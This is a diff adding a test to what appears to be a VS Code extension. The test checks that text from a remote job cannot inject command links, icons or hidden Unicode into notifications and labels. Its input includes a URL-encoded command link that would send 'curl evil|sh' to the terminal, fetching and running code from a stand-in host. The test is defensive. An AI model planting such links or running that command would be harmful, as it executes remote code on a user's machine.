@@ -27,6 +27,18 @@ test('control characters from the box are shown escaped', () => {
   assert.equal(present.jobItem({ id: 'j', status: 'done', prompt: '\u001b[2Jhi', created: 0 }, 10).label, '$(check) \\x1b[2Jhi');
 });
 
+test('box text in a notification runs no command and draws no icon', () => {
+  const link = 'failed [Open settings](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D "ok") $(check)';
+  const shown = present.errorMessage({ message: `AI run failed: ${link}`, hint: '[x](command:y)' });
+  assert.doesNotMatch(shown, /\]\(/);
+  assert.doesNotMatch(shown, /\$\(/);
+  assert.match(shown, /\[Open settings\] \(command:workbench/);
+  assert.equal(present.plain('a\u202eb\u2028c\u061cd\u3164e\u{E0041}'), 'a<U+202E>b<U+2028>c<U+061C>d<U+3164>e<U+E0041>');
+  const item = present.jobItem({ id: 'abc', status: 'failed', prompt: '$(loading~spin) [a](command:x)', reason: '[b](command:y)', created: 0 }, 10);
+  assert.equal(item.label, '$(error) $ (loading~spin) [a] (command:x)');
+  assert.equal(item.detail, '[b] (command:y)');
+});
+
 test('the progress notification says syncing, queued with the position, running, fetching', () => {
   const messages = fx.ASK_EVENTS.map((e) => present.progressMessage(e));
   assert.deepEqual(messages, [
